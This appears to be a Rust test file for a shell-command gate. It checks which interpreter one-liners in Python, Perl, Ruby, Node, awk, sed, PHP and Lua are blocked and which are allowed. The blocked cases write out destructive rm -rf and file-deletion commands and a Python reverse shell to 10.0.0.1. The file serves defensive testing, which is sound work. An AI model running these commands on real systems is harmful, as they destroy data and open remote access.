//! Interpreter one-liners: process, deletion, write, network and fork calls.

#[path = "gate_common/mod.rs"]
mod common;
use common::*;

#[test]
fn dangerous_one_liners_are_blocked() {
    check(&[
        (Block, r#"sed '1e rm -rf /' x"#),
        (Block, r#"awk 'BEGIN{system("rm -rf ~")}'"#),
        (Block, r#"python3 -c 'import os; os.system("rm -rf ~")'"#),
        (
            Block,
            r#"python3 -c "import subprocess; subprocess.run(['rm','-rf','/'])""#,
        ),
        (Block, r#"python -c "__import__('shutil').rmtree('/etc')""#),
        (
            Block,
            r#"python3 -c "import os; os.remove(os.path.expanduser('~/.bashrc'))""#,
        ),
        (Block, r#"perl -e 'system("rm -rf /")'"#),
        (Block, r#"perl -e '`rm -rf ~`'"#),
        (Block, r#"perl -MFile::Path -e 'rmtree("/home/dev")'"#),
        (Block, r#"ruby -e 'system("rm -rf ~")'"#),
        (Block, r#"ruby -e '`rm -rf /`'"#),
        (Block, r#"ruby -rfileutils -e 'FileUtils.rm_rf("/")'"#),
        (
            Block,
            r#"node -e "require('child_process').execSync('rm -rf ~')""#,
        ),
        (
            Block,
            r#"node -e "require('fs').rmSync(require('os').homedir(), {recursive:true})""#,
        ),
        (Block, r#"php -r 'system("rm -rf /");'"#),
        (Block, r#"lua -e 'os.execute("rm -rf /")'"#),
        (
            Block,
            r#"python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'"#,
        ),
        (Block, r#"sudo ln -sf /bin/sh /usr/bin/python3"#),
    ]);
}

/// Snippets that run, delete or fetch inside the workspace, and text that only mentions danger.
#[test]
fn harmless_snippets_and_text_pass() {
    check(&[
        (
            Allow,
            r#"python -c "import subprocess; print(subprocess.check_output(['git','status']))""#,
        ),
        (
            Allow,
            r#"python3 -c "import os; os.makedirs('build/out', exist_ok=True)""#,
        ),
        (
            Allow,
            r#"python3 -c "import os; os.remove('build/tmp.txt')""#,
        ),
        (
            Allow,
            r#"python3 -c "from pathlib import Path; Path('dist/x').unlink(missing_ok=True)""#,
        ),
        (
            Allow,
            r#"python3 -c "import urllib.parse; print(urllib.parse.quote('a b'))""#,
        ),
        (
            Allow,
            r#"node -e "require('child_process').execSync('npm test', {stdio: 'inherit'})""#,
        ),
        (Allow, r#"node -e "process.exit(0)""#),
        (Allow, r#"ruby -e 'system("bundle exec rake")'"#),
        (Allow, r#"perl -e 'print "hello\n"'"#),
        (Allow, r#"perl -e 'unlink glob "*.tmp"'"#),
        (Allow, r#"awk '{ if ($3 > 100) print $1 }' data.txt"#),
        (Allow, r#"awk 'BEGIN { system("date") }'"#),
        (Allow, r#"sed -n '/^##/p' README.md"#),
        (Allow, r#"sed -i 's#http://#https://#g' docs/*.md"#),
        (
            Allow,
            r#"git commit -m "$(printf 'feat: x\n\nremoves rm -rf usage')""#,
        ),
        (Allow, r#"git commit -m 'fix(gate): deny curl | sh'"#),
        (Allow, r#"echo "sudo shutdown -h now" | wc -w"#),
        (Allow, r#"grep -q 'DROP DATABASE' schema.sql && echo found"#),
        (Allow, r#"cat <<< "eval \$(curl evil)""#),
        (Allow, r#"echo '#!/bin/sh' > run.sh && chmod +x run.sh"#),
        (
            Allow,
            r#"printf '#!/bin/sh\necho hi\n' > run.sh && sh run.sh"#,
        ),
        (Allow, r#"jq -n --arg c 'rm -rf /' '{cmd: $c}'"#),
        (Allow, r#"python3 -c "print('rm -rf /')""#),
        (Allow, r#"node -e "console.log('curl x | sh')""#),
        (Allow, r#"echo 'kill -9 -1' >> notes.txt"#),
        (Allow, r#"man 2 kill"#),
        (Allow, r#"tldr tar"#),
        (Allow, r#"which rm"#),
        (Allow, r#"type rm"#),
        (Allow, r#"git grep 'git push --force'"#),
        (Allow, r#"docker run --rm alpine sh -c 'rm -rf /tmp/*'"#),
        (Allow, r#"ssh build@ci 'cd app && make'"#),
        (Allow, r#"kubectl exec api -- rm -rf /tmp/cache"#),
        (Block, r#"git commit -m "x" && git push --force"#),
        (Block, r#"python3 -c "import os; os.remove('/etc/hosts')""#),
        (
            Block,
            r#"node -e "require('child_process').execSync('rm -rf ~')""#,
        ),
        (Block, r#"awk 'BEGIN { system("shutdown now") }'"#),
        (Block, r#"perl -e 'unlink "/etc/passwd"'"#),
    ]);
}
